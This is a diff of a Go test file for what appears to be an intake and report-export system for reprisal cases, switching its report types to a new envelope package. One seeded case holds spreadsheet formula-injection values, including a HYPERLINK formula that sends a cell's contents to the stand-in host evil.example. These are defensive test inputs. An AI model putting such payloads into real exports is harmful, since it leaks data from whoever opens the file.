@@ -14,8 +14,8 @@ import (
 	"github.com/google/go-cmp/cmp"
 
 	"github.com/ohchr-reprisals/intake/desk/sgreport"
+	"github.com/ohchr-reprisals/intake/envelope"
 	"github.com/ohchr-reprisals/intake/handlerapi"
-	"github.com/ohchr-reprisals/intake/intake"
 	"github.com/ohchr-reprisals/intake/intake/intaketest"
 )
 
@@ -34,7 +34,7 @@ func day(s string) time.Time {
 // seeded returns cases with known answers for AnnualPeriod(2026), that is
 // 2025-05-01 to 2026-04-30. The comments say what each one tests.
 func seeded() []sgreport.Case {
-	mk := func(ref, received, status, detail, body, state, publication string, edit func(r *intake.Report)) sgreport.Case {
+	mk := func(ref, received, status, detail, body, state, publication string, edit func(r *envelope.Report)) sgreport.Case {
 		r := intaketest.Report(body)
 		r.StateConcerned = state
 		r.Consent.Publication = publication
@@ -43,12 +43,12 @@ func seeded() []sgreport.Case {
 		}
 		return sgreport.Case{Reference: ref, ReceivedOn: day(received), Status: status, StatusDetail: detail, Urgency: "U3", Report: *r}
 	}
-	plant := func(r *intake.Report) { intaketest.PlantCanary(r, canary) }
+	plant := func(r *envelope.Report) { intaketest.PlantCanary(r, canary) }
 	return []sgreport.Case{
 		// Named, two victims and two incidents sharing a type.
-		mk("AAAA-2222", "2025-06-10", "published", "", "upr", "KP", "named", func(r *intake.Report) {
-			r.Victims = append(r.Victims, intake.Victim{Name: "Karim", Kind: "individual", Roles: []string{"lawyer"}, Status: "at_liberty", Nationality: "Examplestan"})
-			r.Incidents = append(r.Incidents, intake.Incident{Date: "2025-05-14", Place: "Border post", Narrative: "Stopped at the border.",
+		mk("AAAA-2222", "2025-06-10", "published", "", "upr", "KP", "named", func(r *envelope.Report) {
+			r.Victims = append(r.Victims, envelope.Victim{Name: "Karim", Kind: "individual", Roles: []string{"lawyer"}, Status: "at_liberty", Nationality: "Examplestan"})
+			r.Incidents = append(r.Incidents, envelope.Incident{Date: "2025-05-14", Place: "Border post", Narrative: "Stopped at the border.",
 				PerpetratorKind: "state", Perpetrator: "Border police", Types: []string{"threats_harassment", "travel_ban"}})
 			r.Submitter.Name = canary + " submitter"
 			r.Victims[0].Location = canary + " location"
@@ -58,29 +58,29 @@ func seeded() []sgreport.Case {
 			r.Consent.How = canary + " consent"
 		}),
 		// Anonymous: free text everywhere, none of it may be exported.
-		mk("BBBB-3333", "2025-12-01", "sg_report_candidate", "", "special_procedures", "KP", "anonymous", func(r *intake.Report) {
+		mk("BBBB-3333", "2025-12-01", "sg_report_candidate", "", "special_procedures", "KP", "anonymous", func(r *envelope.Report) {
 			plant(r)
 			r.Incidents[0].Types = []string{"travel_ban"}
 			r.Incidents[0].Date = "2025-11-23"
 		}),
 		// Pattern only, on the period's last day.
-		mk("CCCC-4444", "2026-04-30", "under_assessment", "", "treaty_body", "PS", "pattern_only", func(r *intake.Report) {
+		mk("CCCC-4444", "2026-04-30", "under_assessment", "", "treaty_body", "PS", "pattern_only", func(r *envelope.Report) {
 			plant(r)
 			r.Victims[0].Roles = []string{"witness"}
 			r.Incidents[0].Types = []string{"surveillance_hacking"}
 		}),
 		// Not at all, on the period's first day: counted, not exported.
-		mk("DDDD-5555", "2025-05-01", "received", "", "hrc_session", "PS", "no", func(r *intake.Report) {
+		mk("DDDD-5555", "2025-05-01", "received", "", "hrc_session", "PS", "no", func(r *envelope.Report) {
 			plant(r)
 			r.Incidents[0].Types = []string{"smear_campaign"}
 		}),
 		// Named, but consent was withdrawn since.
-		mk("EEEE-6666", "2025-09-09", "closed", "consent_withdrawn", "upr", "TR", "named", func(r *intake.Report) {
+		mk("EEEE-6666", "2025-09-09", "closed", "consent_withdrawn", "upr", "TR", "named", func(r *envelope.Report) {
 			plant(r)
 			r.Incidents[0].Types = []string{"killing"}
 		}),
 		// Anonymous, but on hold to do no harm.
-		mk("FFFF-7777", "2025-10-10", "on_hold", "", "upr", "RU", "anonymous", func(r *intake.Report) {
+		mk("FFFF-7777", "2025-10-10", "on_hold", "", "upr", "RU", "anonymous", func(r *envelope.Report) {
 			plant(r)
 			r.Incidents[0].Types = []string{"arrest_detention"}
 		}),
@@ -91,7 +91,7 @@ func seeded() []sgreport.Case {
 		mk("JJJJ-AAAA", "2026-05-01", "received", "", "upr", "KP", "named", plant),
 		// Named, "not sure" of the State, with text built to run formulas
 		// in a spreadsheet.
-		mk("KKKK-BBBB", "2026-01-15", "sg_report_candidate", "", "hrc_session", "unsure", "named", func(r *intake.Report) {
+		mk("KKKK-BBBB", "2026-01-15", "sg_report_candidate", "", "hrc_session", "unsure", "named", func(r *envelope.Report) {
 			r.Victims[0].Name = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
 			r.Victims[0].Age = "-1+1"
 			r.Victims[0].Gender = "@SUM(1)"
@@ -102,14 +102,14 @@ func seeded() []sgreport.Case {
 			r.Cooperation.Form = "\r=1"
 		}),
 		// From before the State field existed; pattern only; no roles.
-		mk("MMMM-CCCC", "2025-08-08", "follow_up", "", "other", "", "pattern_only", func(r *intake.Report) {
+		mk("MMMM-CCCC", "2025-08-08", "follow_up", "", "other", "", "pattern_only", func(r *envelope.Report) {
 			plant(r)
 			r.Cooperation.BodyOther = canary
 			r.Victims[0].Roles = nil
 			r.Incidents[0].Types = []string{"travel_ban"}
 		}),
 		// Values no valid report has (a forged or corrupted case).
-		mk("NNNN-DDDD", "2025-07-07", "received", "", "nonsense", "ZZ", "maybe", func(r *intake.Report) {
+		mk("NNNN-DDDD", "2025-07-07", "received", "", "nonsense", "ZZ", "maybe", func(r *envelope.Report) {
 			plant(r)
 			r.Incidents[0].Types = []string{"threats_harassment", "bogus"}
 		}),
